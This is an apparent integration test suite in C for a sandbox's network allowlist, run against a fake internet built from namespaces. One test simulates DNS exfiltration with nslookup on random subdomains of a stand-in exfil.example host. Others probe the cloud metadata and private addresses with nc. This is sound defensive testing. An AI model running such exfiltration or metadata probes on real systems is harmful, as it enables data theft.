/* tests/integration/net_internet_test.c — `agentnest run --network ...`
 * against a fake internet, end to end through the built CLI.  The test moves
 * into a "host" netns of its own (tests/lib/netns_fixture.h) and makes an
 * "internet" netns wired to it by a veth pair the TEST makes (198.51.100.1 /
 * .2), where dnsmasq is the authoritative DNS (192.0.2.53, --log-queries:
 * every query reaching it is counted) and python3 http.server, run as
 * nobody, serves two names on one address (pkg.example and other.example ->
 * 203.0.113.10; a veth end 198.51.100.1 is the "host's own address").
 * agentnest runs in the host netns, so the sandbox's egress
 * process reaches the fake internet and the real host's routes and firewall
 * are never touched.  Covers: an allowed name over HTTP; a non-allowed name
 * on the same IP (DNS refused, and a forged Host header closed by the
 * proxy); a direct IP connect refused; BL-37 (random subdomains of a
 * non-allowed zone: zero queries reach dnsmasq); the deny set in mode full
 * (metadata, private, the host's own address); pip install from a PEP 503
 * index on an allowed name (and not from one whose name is not allowed),
 * over HTTP and over HTTPS (the test's CA given to pip by PIP_CERT); git clone over HTTPS (dumb HTTP behind TLS, the test's certificate
 * trusted by GIT_SSL_CAINFO) of the allowed name, and not with another
 * name's SNI on the same address; fork, workspace restore and a pooled
 * sandbox keep exactly the egress policy (`agentnest network ID`). */
#include <criterion/criterion.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
#include "netns_fixture.h"
#include "rm_tree.h"
#include "util.h"

#define CACHE "/var/cache/agentnest/images/busybox/layout"

static struct {
  int host, inet;
  pid_t dnsmasq, http, holder;
  char dir[64], root[96], log[128], out[128], an[4096];
} E;

static bool up(void *arg) {
  char *log = an_test_read_file((const char *) arg, NULL);
  bool ok = log && (strstr(log, "started") || strstr(log, "Serving HTTP"));
  free(log);
  return ok;
}

static void setup(void) {
  memset(&E, 0, sizeof E);
  if (access(CACHE, F_OK) != 0) cr_skip_test("no busybox image in %s (make images)", CACHE);
  if (an_test_sh("command -v dnsmasq >/dev/null && test -x /usr/bin/python3 && command -v setpriv >/dev/null"))
    cr_skip_test("dnsmasq, python3 or setpriv missing");
  snprintf(E.an, sizeof E.an, "%s/agentnest", getenv("AN_TEST_BUILD") ? getenv("AN_TEST_BUILD") : "build");
  E.host = nf_host_enter();
  E.inet = nf_netns_new();
  snprintf(E.dir, sizeof E.dir, "/tmp/an-inet-%d", (int) getpid());
  cr_assert_eq(mkdir(E.dir, 0755), 0);
  snprintf(E.root, sizeof E.root, "%s/store", E.dir);
  snprintf(E.log, sizeof E.log, "%s/dnsmasq.log", E.dir);
  snprintf(E.out, sizeof E.out, "%s/out", E.dir);
  /* the wire between host and internet, made by the test */
  cr_assert_eq(an_test_sh("ip link add h0 type veth peer name i0 && ip link set i0 netns /proc/%d/fd/%d && "
                          "ip addr add 198.51.100.1/24 dev h0 && ip link set h0 up && "
                          "ip route add 192.0.2.0/24 via 198.51.100.2 && ip route add 203.0.113.0/24 via 198.51.100.2",
                          (int) getpid(), E.inet), 0);
  cr_assert_eq(nf_sh(E.inet, "ip addr add 198.51.100.2/24 dev i0 && ip link set i0 up && "
                             "ip addr add 192.0.2.53/32 dev lo && ip addr add 203.0.113.10/32 dev lo && "
                             "ip route add default via 198.51.100.1 && "
                             "echo 0 > /proc/sys/net/ipv4/ip_unprivileged_port_start"), 0);
  E.dnsmasq = nf_spawn(E.inet, "/dev/null",
      "exec dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts "
      "--bind-interfaces --listen-address=192.0.2.53 --port=53 --user=root --group=root "
      "--pid-file=%s/pid --log-queries --log-facility=%s "
      "--host-record=pkg.example,203.0.113.10 --host-record=other.example,203.0.113.10 "
      "--address=/exfil.example/203.0.113.66", E.dir, E.log);
  cr_assert(nf_wait(up, E.log, 250), "dnsmasq did not start");
  char www[128], hlog[160];
  snprintf(www, sizeof www, "%s/www", E.dir);
  snprintf(hlog, sizeof hlog, "%s/http.log", E.dir);
  cr_assert_eq(an_test_sh("mkdir -p %s && echo hello-from-pkg > %s/index.html && chmod -R a+rX %s", www, www, E.dir), 0);
  E.http = nf_spawn(E.inet, hlog, "cd %s && exec setpriv --reuid=65534 --regid=65534 --clear-groups "
                                  "/usr/bin/python3 -u -m http.server --bind 203.0.113.10 80", www);
  if (!nf_wait(up, hlog, 1000)) {
    char *l = an_test_read_file(hlog, NULL);
    cr_assert_fail("http.server did not start: %s", l ? l : "(no log)");
  }
  cr_assert_eq(an_test_sh("%s --root %s image import %s --name busybox >/dev/null 2>&1", E.an, E.root, CACHE), 0);
}

static void teardown(void) {
  if (E.root[0]) an_test_sh("%s --root %s prune --all >/dev/null 2>&1", E.an, E.root);
  nf_stop(E.http);
  nf_stop(E.dnsmasq);
  if (E.dir[0]) an_test_rm_tree(E.dir);
}

TestSuite(net_internet, .init = setup, .fini = teardown, .timeout = 180);

/* agentnest run --image busybox ARGS -- sh -c SCRIPT; exit status, output in E.out */
static int run(const char *args, const char *script) {
  return an_test_sh("%s --root %s run --image busybox --dns-upstream 192.0.2.53 %s -- sh -c '%s' > %s 2>&1",
                    E.an, E.root, args, script, E.out);
}

static char *out(void) { return an_test_read_file(E.out, NULL); }

static int queries(const char *name) {
  char *log = an_test_read_file(E.log, NULL);
  int n = 0;
  for (const char *p = log; p && (p = strstr(p, "query[")); p++) {
    const char *eol = strchr(p, '\n'), *hit = strstr(p, name);
    if (hit && (!eol || hit < eol)) n++;
  }
  free(log);
  return n;
}

/* busybox's wget and nc resolve through glibc's static NSS, which crashes
 * in this image; its nslookup has its own resolver.  So: resolve with
 * nslookup (the filter admits the address), then speak HTTP with nc to it. */
#define GET(host, ip) "nslookup " host " >/dev/null 2>&1; printf \"GET / HTTP/1.0\\r\\nHost: " host \
                      "\\r\\n\\r\\n\" | nc -w 5 " ip " 80"

Test(net_internet, allowed_name_over_http_and_nothing_else_on_the_same_ip) {
  int st = run("--network allowlist --allow pkg.example", GET("pkg.example", "203.0.113.10"));
  char *o = out();
  cr_assert_eq(st, 0, "allowed name over HTTP: %s", o);
  cr_assert(strstr(o, "hello-from-pkg"), "%s", o);
  free(o);
  st = run("--network allowlist --allow pkg.example", "nslookup other.example");
  o = out();
  cr_assert_neq(st, 0, "a non-allowed name on the same IP resolved: %s", o);
  free(o);
  cr_assert_eq(queries("other.example"), 0, "the non-allowed name was asked upstream");
  /* the address is admitted (pkg.example resolved), but the Host is another site's */
  st = run("--network allowlist --allow pkg.example",
           "nslookup pkg.example >/dev/null 2>&1; " GET("other.example", "203.0.113.10"));
  o = out();
  cr_assert_null(strstr(o, "hello-from-pkg"), "Host mismatch on an allowed IP answered: %s", o);
  free(o);
  st = run("--network allowlist --allow pkg.example", GET("203.0.113.10", "203.0.113.10"));
  o = out();
  cr_assert_null(strstr(o, "hello-from-pkg"), "direct IP connect answered: %s", o);
  free(o);
  /* never resolved: the address is not even admitted */
  st = run("--network allowlist --allow pkg.example", "printf \"GET / HTTP/1.0\\r\\n\\r\\n\" | nc -w 5 203.0.113.10 80");
  o = out();
  cr_assert_null(strstr(o, "hello-from-pkg"), "an address no allowed name resolved to answered: %s", o);
  free(o);
}

Test(net_internet, bl_37_dns_exfiltration_reaches_no_upstream) {
  int st = run("--network allowlist --allow pkg.example",
               "i=0; while [ $i -lt 20 ]; do "
               "nslookup $(head -c 8 /dev/urandom | od -An -tx1 | tr -d \" \\n\").$i.exfil.example >/dev/null 2>&1 "
               "&& exit 1; i=$((i+1)); done; nslookup exfil.example 192.0.2.53 >/dev/null 2>&1 && exit 1; "
               "nslookup -type=a pkg.example 2>&1 | grep -q 203.0.113.10 || exit 2; exit 0");
  char *o = out();
  cr_assert_eq(st, 0, "an exfil name resolved, or the allowed one did not (%d): %s", st, o);
  free(o);
  cr_assert_eq(queries("exfil.example"), 0, "a query for the exfil zone reached the upstream");
  cr_assert_geq(queries("pkg.example"), 1, "the upstream log counts queries");
}

Test(net_internet, deny_set_applies_in_mode_full) {
  int st = run("--network full", GET("pkg.example", "203.0.113.10"));
  char *o = out();
  cr_assert(st == 0 && strstr(o, "hello-from-pkg"), "mode full reaches a public site: %s", o);
  free(o);
  /* metadata, RFC 1918, the host's own address (198.51.100.1: the proxy
   * connects from the host), host loopback: never connected */
  static const char *const denied[] = {"169.254.169.254", "10.0.0.1", "192.168.1.1", "198.51.100.1", "127.0.0.1"};
  for (size_t i = 0; i < sizeof denied / sizeof denied[0]; i++) {
    char script[256];
    snprintf(script, sizeof script, "printf \"GET / HTTP/1.0\\r\\n\\r\\n\" | nc -w 3 %s 80 && echo CONNECTED", denied[i]);
    run("--network full", script);
    o = out();
    cr_assert_null(strstr(o, "CONNECTED"), "%s reachable in mode full: %s", denied[i], o);
    free(o);
  }
}

#define PY_CACHE "/var/cache/agentnest/images/python/layout"

static const char tls_server[] =
    "import http.server, ssl, sys\n"
    "httpd = http.server.HTTPServer(('203.0.113.10', 443), http.server.SimpleHTTPRequestHandler)\n"
    "ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)\n"
    "ctx.load_cert_chain(sys.argv[1], sys.argv[2])\n"
    "httpd.socket = ctx.wrap_socket(httpd.socket, server_side=True)\n"
    "print('Serving HTTP', flush=True)\n"
    "httpd.serve_forever()\n";

/* in the sandbox: TLS to pkg.example's address with SNI pkg.example (must
 * answer) and with SNI other.example (the proxy must close it) */
static const char tls_client[] =
    "import socket, ssl, sys\n"
    "ctx = ssl.create_default_context()\n"
    "ctx.check_hostname = False\n"
    "ctx.verify_mode = ssl.CERT_NONE\n"
    "def get(sni):\n"
    "    try:\n"
    "        s = socket.create_connection(('pkg.example', 443), timeout=5)\n"
    "        t = ctx.wrap_socket(s, server_hostname=sni)\n"
    "        t.sendall(b'GET / HTTP/1.0\\r\\nHost: ' + sni.encode() + b'\\r\\n\\r\\n')\n"
    "        data = b''\n"
    "        while True:\n"
    "            d = t.recv(4096)\n"
    "            if not d: break\n"
    "            data += d\n"
    "        return b'hello-from-pkg' in data\n"
    "    except Exception as e:\n"
    "        print('refused', sni, repr(e))\n"
    "        return False\n"
    "ok, bad = get('pkg.example'), get('other.example')\n"
    "print('allowed', ok, 'mismatch', bad)\n"
    "sys.exit(0 if ok and not bad else 1)\n";

Test(net_internet, allowed_name_over_https_and_sni_of_another_site_refused) {
  if (access(PY_CACHE, F_OK) != 0) cr_skip_test("no python image in %s", PY_CACHE);
  cr_assert_eq(an_test_sh("%s --root %s image import %s --name python >/dev/null 2>&1", E.an, E.root, PY_CACHE), 0);
  cr_assert_eq(an_test_sh("cd %s && openssl req -x509 -newkey rsa:2048 -nodes -keyout key.pem -out cert.pem "
                          "-days 1 -subj /CN=pkg.example -addext subjectAltName=DNS:pkg.example,DNS:other.example "
                          ">/dev/null 2>&1 && chmod a+r key.pem cert.pem", E.dir), 0, "openssl");
  char srv[128], cli[128], tlog[160];
  snprintf(srv, sizeof srv, "%s/tls_server.py", E.dir);
  snprintf(cli, sizeof cli, "%s/tls_client.py", E.dir);
  snprintf(tlog, sizeof tlog, "%s/https.log", E.dir);
  an_test_write_file(srv, tls_server, strlen(tls_server), 0644);
  an_test_write_file(cli, tls_client, strlen(tls_client), 0644);
  pid_t https = nf_spawn(E.inet, tlog, "cd %s/www && exec setpriv --reuid=65534 --regid=65534 --clear-groups "
                                       "/usr/bin/python3 -u %s %s/cert.pem %s/key.pem", E.dir, srv, E.dir, E.dir);
  bool started = nf_wait(up, tlog, 1000);
  int st = an_test_sh("%s --root %s python --image python --dns-upstream 192.0.2.53 --network allowlist "
                      "--allow pkg.example %s > %s 2>&1", E.an, E.root, cli, E.out);
  nf_stop(https);
  cr_assert(started, "the HTTPS server did not start");
  char *o = out();
  cr_assert_eq(st, 0, "HTTPS: %s", o);
  cr_assert(strstr(o, "allowed True mismatch False"), "%s", o);
  free(o);
}

/* every DNS decision and connection verdict is an event of the sandbox */
Test(net_internet, dns_decisions_and_connections_are_events) {
  char idp[160];
  snprintf(idp, sizeof idp, "%s/id", E.dir);
  cr_assert_eq(an_test_sh("%s --root %s create --image busybox --dns-upstream 192.0.2.53 --network allowlist "
                          "--allow pkg.example > %s 2>&1", E.an, E.root, idp), 0);
  char *id = an_test_read_file(idp, NULL);
  id[strcspn(id, "\n")] = 0;
  an_test_sh("%s --root %s exec %s -- sh -c '%s; nslookup other.example' > %s 2>&1", E.an, E.root, id,
             GET("pkg.example", "203.0.113.10"), E.out);
  cr_assert_eq(an_test_sh("%s --root %s events %s > %s 2>&1", E.an, E.root, id, E.out), 0);
  char *ev = out();
  cr_assert(strstr(ev, "\"type\":\"egress_started\""), "%s", ev);
  const char *want[] = {"\"kind\":\"dns\",\"verdict\":\"deny\",\"name\":\"other.example\"",
                        "\"kind\":\"dns\",\"verdict\":\"allow\",\"name\":\"pkg.example\"",
                        "\"kind\":\"connect\",\"verdict\":\"allow\",\"name\":\"pkg.example\""};
  for (size_t i = 0; i < 3; i++) cr_assert(strstr(ev, want[i]), "no event %s in:\n%s", want[i], ev);
  free(ev);
  cr_assert_eq(an_test_sh("%s --root %s network %s > %s", E.an, E.root, id, E.out), 0);
  ev = out();
  cr_assert(strstr(ev, "\"redirected_packets\"") && !strstr(ev, "\"redirected_packets\": 0,"),
            "counters count the redirected connection: %s", ev);
  free(ev);
  /* the same counters in inspect (issue 12 item 6) */
  cr_assert_eq(an_test_sh("%s --root %s inspect %s > %s", E.an, E.root, id, E.out), 0);
  ev = out();
  const char *ic = strstr(ev, "\"egress_counters\": {");
  cr_assert(ic && strstr(ic, "\"redirected_packets\"") && !strstr(ic, "\"redirected_packets\": 0,") &&
                strstr(ic, "\"dns_packets\""),
            "inspect shows the egress counters: %s", ev);
  free(ev);
  an_test_sh("%s --root %s destroy %s >/dev/null 2>&1", E.an, E.root, id);
  free(id);
}

/* ---- workflows through the allowlist: pip from a package index, git clone over HTTPS ---- */

/* A pure-Python wheel (PEP 427) made with zipfile on the host, put where
 * http.server serves it as a PEP 503 project page: www/simple/anpkg/. */
static const char make_wheel_py[] =
    "import base64, hashlib, os, sys, zipfile\n"
    "d = os.path.join(sys.argv[1], 'simple', 'anpkg')\n"
    "os.makedirs(d, exist_ok=True)\n"
    "files = {\n"
    "    'anpkg/__init__.py': b'MARK = \"an-pip-index-ok\"\\n',\n"
    "    'anpkg-1.0.dist-info/METADATA': b'Metadata-Version: 2.1\\nName: anpkg\\nVersion: 1.0\\n',\n"
    "    'anpkg-1.0.dist-info/WHEEL': b'Wheel-Version: 1.0\\nGenerator: agentnest-test\\n'\n"
    "                                 b'Root-Is-Purelib: true\\nTag: py3-none-any\\n',\n"
    "}\n"
    "def digest(b):\n"
    "    return 'sha256=' + base64.urlsafe_b64encode(hashlib.sha256(b).digest()).rstrip(b'=').decode()\n"
    "record = ''.join('%s,%s,%d\\n' % (n, digest(b), len(b)) for n, b in files.items())\n"
    "record += 'anpkg-1.0.dist-info/RECORD,,\\n'\n"
    "with zipfile.ZipFile(os.path.join(d, 'anpkg-1.0-py3-none-any.whl'), 'w') as z:\n"
    "    for n, b in files.items():\n"
    "        z.writestr(n, b)\n"
    "    z.writestr('anpkg-1.0.dist-info/RECORD', record)\n"
    "with open(os.path.join(d, 'index.html'), 'w') as f:\n"
    "    f.write('<!DOCTYPE html><html><body><a href=\"anpkg-1.0-py3-none-any.whl\">anpkg-1.0-py3-none-any.whl</a></body></html>\\n')\n";

#define PIP_INSTALL "pip install --no-cache-dir --disable-pip-version-check --target /workspace/lib " \
                    "--index-url http://pkg.example/simple --trusted-host pkg.example anpkg && " \
                    "PYTHONPATH=/workspace/lib python3 -c \"import anpkg; print(anpkg.MARK)\""

/* issue 16 item 1 with issue 12's local index: pip install from an index
 * on an allowlisted name works, and the same install with the index's name
 * not on the list fails (its name is refused at DNS, never asked upstream). */
Test(net_internet, pip_install_from_an_allowlisted_index) {
  if (access(PY_CACHE, F_OK) != 0) cr_skip_test("no python image in %s", PY_CACHE);
  cr_assert_eq(an_test_sh("%s --root %s image import %s --name python >/dev/null 2>&1", E.an, E.root, PY_CACHE), 0);
  char py[128];
  snprintf(py, sizeof py, "%s/make_wheel.py", E.dir);
  an_test_write_file(py, make_wheel_py, strlen(make_wheel_py), 0644);
  cr_assert_eq(an_test_sh("/usr/bin/python3 %s %s/www && chmod -R a+rX %s/www", py, E.dir, E.dir), 0, "wheel");
  int st = an_test_sh("%s --root %s run --image python --dns-upstream 192.0.2.53 --network allowlist "
                      "--allow pkg.example -- sh -c '" PIP_INSTALL "' > %s 2>&1", E.an, E.root, E.out);
  char *o = out();
  cr_assert_eq(st, 0, "pip install from the allowlisted index: %s", o);
  cr_assert(strstr(o, "an-pip-index-ok"), "%s", o);
  free(o);
  int before = queries("pkg.example");
  st = an_test_sh("%s --root %s run --image python --dns-upstream 192.0.2.53 --network allowlist "
                  "--allow other.example -- sh -c '" PIP_INSTALL "' > %s 2>&1", E.an, E.root, E.out);
  o = out();
  cr_assert_neq(st, 0, "pip installed from an index whose name is not allowed: %s", o);
  cr_assert_null(strstr(o, "an-pip-index-ok"), "%s", o);
  free(o);
  cr_assert_eq(queries("pkg.example"), before, "the non-allowed index name was asked upstream");
}

/* pip over HTTPS through the proxy (issue 12): the same index behind TLS
 * (tls_server, the test's self-signed certificate for pkg.example and
 * other.example, given to pip by PIP_CERT), with only pkg.example:443 on
 * the allowlist.  The install from https://pkg.example/simple works (the
 * proxy admits the ClientHello's SNI and splices the TLS stream); the same
 * install from https://other.example/simple, a name not on the list, fails
 * and that name is never asked upstream. */
#define PIP_HTTPS(name) "pip install --no-cache-dir --disable-pip-version-check --retries 0 --timeout 10 " \
                        "--target /workspace/lib --index-url https://" name "/simple anpkg && " \
                        "PYTHONPATH=/workspace/lib python3 -c \"import anpkg; print(anpkg.MARK)\""

Test(net_internet, pip_install_over_https_through_the_egress_proxy) {
  if (access(PY_CACHE, F_OK) != 0) cr_skip_test("no python image in %s", PY_CACHE);
  if (an_test_sh("command -v openssl >/dev/null")) cr_skip_test("no openssl on the host");
  cr_assert_eq(an_test_sh("%s --root %s image import %s --name python >/dev/null 2>&1", E.an, E.root, PY_CACHE), 0);
  char py[128], srv[128], tlog[160];
  snprintf(py, sizeof py, "%s/make_wheel.py", E.dir);
  an_test_write_file(py, make_wheel_py, strlen(make_wheel_py), 0644);
  cr_assert_eq(an_test_sh("/usr/bin/python3 %s %s/www && chmod -R a+rX %s/www", py, E.dir, E.dir), 0, "wheel");
  cr_assert_eq(an_test_sh("cd %s && openssl req -x509 -newkey rsa:2048 -nodes -keyout key.pem -out cert.pem "
                          "-days 1 -subj /CN=pkg.example -addext subjectAltName=DNS:pkg.example,DNS:other.example "
                          ">/dev/null 2>&1 && chmod a+r key.pem cert.pem", E.dir), 0, "openssl");
  snprintf(srv, sizeof srv, "%s/tls_server.py", E.dir);
  snprintf(tlog, sizeof tlog, "%s/https.log", E.dir);
  an_test_write_file(srv, tls_server, strlen(tls_server), 0644);
  pid_t https = nf_spawn(E.inet, tlog, "cd %s/www && exec setpriv --reuid=65534 --regid=65534 --clear-groups "
                                       "/usr/bin/python3 -u %s %s/cert.pem %s/key.pem", E.dir, srv, E.dir, E.dir);
  bool started = nf_wait(up, tlog, 1000);
  const char *args = "--image python --dns-upstream 192.0.2.53 --network allowlist --allow pkg.example:443 "
                     "--put cert.pem --env PIP_CERT=/workspace/cert.pem";
  int ok = an_test_sh("cd %s && %s --root %s run %s -- sh -c '" PIP_HTTPS("pkg.example") "' > %s 2>&1",
                      E.dir, E.an, E.root, args, E.out);
  char *o1 = out();
  int before = queries("other.example");
  int bad = an_test_sh("cd %s && %s --root %s run %s -- sh -c '" PIP_HTTPS("other.example") "' > %s 2>&1",
                       E.dir, E.an, E.root, args, E.out);
  char *o2 = out();
  nf_stop(https);
  cr_assert(started, "the HTTPS server did not start");
  cr_assert_eq(ok, 0, "pip install over HTTPS from the allowlisted index: %s", o1);
  cr_assert(strstr(o1, "an-pip-index-ok"), "%s", o1);
  cr_assert_neq(bad, 0, "pip installed over HTTPS from a name not on the allowlist: %s", o2);
  cr_assert_null(strstr(o2, "an-pip-index-ok"), "%s", o2);
  cr_assert_eq(queries("other.example"), before, "the non-allowed index name was asked upstream");
  free(o1);
  free(o2);
}

#define DEB_CACHE "/var/cache/agentnest/images/debian/layout"
#define HOST_GIT "env -u GIT_DIR HOME=%s GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null " \
                 "git -c user.name=host -c user.email=host@test.invalid"

/* issue 16 item 2 with issue 12's Git server: a bare repository served by
 * git's dumb HTTP protocol (http.server over it after update-server-info)
 * behind TLS on pkg.example and other.example (one address, one
 * certificate for both names, trusted in the sandbox by GIT_SSL_CAINFO).
 * The clone of the allowed name works; a clone of the other name on the
 * same, already admitted address (curl told the address, so no DNS) is
 * closed by the proxy on the ClientHello's SNI. */
Test(net_internet, git_clone_over_https_through_the_allowlist) {
  if (access(DEB_CACHE, F_OK) != 0) cr_skip_test("no debian image in %s", DEB_CACHE);
  if (an_test_sh("command -v git >/dev/null && command -v openssl >/dev/null")) cr_skip_test("no git or openssl on the host");
  cr_assert_eq(an_test_sh("%s --root %s image import %s --name debian >/dev/null 2>&1", E.an, E.root, DEB_CACHE), 0);
  cr_assert_eq(an_test_sh("cd %s && " HOST_GIT " init -q base && cd base && echo cloned-over-https > a.txt && "
                          HOST_GIT " add a.txt && " HOST_GIT " commit -qm one && cd .. && "
                          HOST_GIT " clone -q --bare base www/repo.git && cd www/repo.git && "
                          HOST_GIT " update-server-info && chmod -R a+rX %s/www",
                          E.dir, E.dir, E.dir, E.dir, E.dir, E.dir, E.dir), 0, "bare repository");
  cr_assert_eq(an_test_sh("cd %s && openssl req -x509 -newkey rsa:2048 -nodes -keyout key.pem -out cert.pem "
                          "-days 1 -subj /CN=pkg.example -addext subjectAltName=DNS:pkg.example,DNS:other.example "
                          ">/dev/null 2>&1 && chmod a+r key.pem cert.pem", E.dir), 0, "openssl");
  char srv[128], tlog[160];
  snprintf(srv, sizeof srv, "%s/tls_server.py", E.dir);
  snprintf(tlog, sizeof tlog, "%s/https.log", E.dir);
  an_test_write_file(srv, tls_server, strlen(tls_server), 0644);
  pid_t https = nf_spawn(E.inet, tlog, "cd %s/www && exec setpriv --reuid=65534 --regid=65534 --clear-groups "
                                       "/usr/bin/python3 -u %s %s/cert.pem %s/key.pem", E.dir, srv, E.dir, E.dir);
  bool started = nf_wait(up, tlog, 1000);
  int st = an_test_sh(
      "cd %s && %s --root %s run --image debian --dns-upstream 192.0.2.53 --network allowlist --allow pkg.example "
      "--put cert.pem --env GIT_SSL_CAINFO=/workspace/cert.pem --env HOME=/workspace -- sh -c '"
      "git clone -q https://pkg.example/repo.git /workspace/ok && cat /workspace/ok/a.txt; "
      "git -c http.curloptResolve=other.example:443:203.0.113.10 clone -q https://other.example/repo.git "
      "/workspace/bad 2>&1 && echo OTHER-CLONED; true' > %s 2>&1", E.dir, E.an, E.root, E.out);
  nf_stop(https);
  cr_assert(started, "the HTTPS server did not start");
  char *o = out();
  cr_assert_eq(st, 0, "%s", o);
  cr_assert(strstr(o, "cloned-over-https"), "clone of the allowed name over HTTPS: %s", o);
  cr_assert_null(strstr(o, "OTHER-CLONED"), "a clone with another name's SNI on the allowed address: %s", o);
  free(o);
}

/* ---- inheritance: fork, restore and a pooled sandbox keep exactly their egress policy ---- */

/* `agentnest network ID`'s policy (mode, allow, dns_upstream: from "mode"
 * up to the counters), malloc'd. */
static char *policy_of(const char *id) {
  cr_assert_eq(an_test_sh("%s --root %s network %s > %s 2>&1", E.an, E.root, id, E.out), 0, "network %s", id);
  char *o = out();
  char *a = strstr(o, "\"mode\""), *b = a ? strstr(a, "\"counters\"") : NULL;
  cr_assert(a && b, "network %s: %s", id, o);
  char *p = strndup(a, (size_t) (b - a));
  free(o);
  return p;
}

/* the id a command printed (first line of E.out), malloc'd */
static char *made(const char *what, int st) {
  char *o = out();
  cr_assert_eq(st, 0, "%s: %s", what, o);
  o[strcspn(o, "\n")] = 0;
  return o;
}

#define POLICY "--dns-upstream 192.0.2.53 --network allowlist --allow pkg.example:80,443 --allow '*.zone.example' " \
               "--allow 203.0.113.0/24:8080"

Test(net_internet, fork_and_restore_keep_exactly_the_egress_policy) {
  char *id = made("create", an_test_sh("%s --root %s create --image busybox " POLICY " > %s 2>&1", E.an, E.root, E.out));
  /* a live change first: the fork must copy the policy as it is now */
  cr_assert_eq(an_test_sh("%s --root %s network %s --allow other.example:443 --deny '*.zone.example' > %s 2>&1",
                          E.an, E.root, id, E.out), 0);
  char *parent = policy_of(id);
  cr_assert(strstr(parent, "other.example:443") && !strstr(parent, "zone.example"), "%s", parent);
  char *child = made("fork", an_test_sh("%s --root %s fork %s > %s 2>&1", E.an, E.root, id, E.out));
  char *cp = policy_of(child);
  cr_assert_str_eq(cp, parent, "the fork's policy differs from its parent's");
  /* a workspace restore replaces files only: the policy is unchanged */
  cr_assert_eq(an_test_sh("%s --root %s snapshot %s %s/ws.tar > %s 2>&1 && %s --root %s restore %s %s/ws.tar >> %s 2>&1",
                          E.an, E.root, id, E.dir, E.out, E.an, E.root, id, E.dir, E.out), 0, "snapshot/restore");
  char *after = policy_of(id);
  cr_assert_str_eq(after, parent, "restore changed the policy");
  /* and the fork's rules are its own, enforced: pkg.example resolves there */
  cr_assert_eq(an_test_sh("%s --root %s exec %s -- sh -c '" GET("pkg.example", "203.0.113.10") "' > %s 2>&1",
                          E.an, E.root, child, E.out), 0);
  char *o = out();
  cr_assert(strstr(o, "hello-from-pkg"), "the fork's egress: %s", o);
  free(o);
  an_test_sh("%s --root %s destroy %s %s >/dev/null 2>&1", E.an, E.root, id, child);
  free(after); free(cp); free(child); free(parent); free(id);
}

Test(net_internet, a_pooled_sandbox_has_the_pools_egress_policy) {
  cr_assert_eq(an_test_sh("%s --root %s pool start egress --size 1 --image busybox " POLICY " > %s 2>&1",
                          E.an, E.root, E.out), 0, "pool start");
  char *pooled = made("create --pool", an_test_sh("%s --root %s create --pool egress --pool-only > %s 2>&1", E.an, E.root, E.out));
  char *fresh = made("create", an_test_sh("%s --root %s create --image busybox " POLICY " > %s 2>&1",
                                          E.an, E.root, E.out));
  char *pp = policy_of(pooled), *fp = policy_of(fresh);
  cr_assert(strstr(pp, "\"allowlist\""), "%s", pp);
  cr_assert_str_eq(pp, fp, "the pooled sandbox's policy differs from a fresh one's");
  cr_assert_eq(an_test_sh("%s --root %s exec %s -- sh -c '" GET("pkg.example", "203.0.113.10") "' > %s 2>&1",
                          E.an, E.root, pooled, E.out), 0);
  char *o = out();
  cr_assert(strstr(o, "hello-from-pkg"), "the pooled sandbox's egress: %s", o);
  free(o);
  an_test_sh("%s --root %s pool stop egress >/dev/null 2>&1; %s --root %s destroy %s %s >/dev/null 2>&1",
             E.an, E.root, E.an, E.root, pooled, fresh);
  free(pp); free(fp); free(pooled); free(fresh);
}
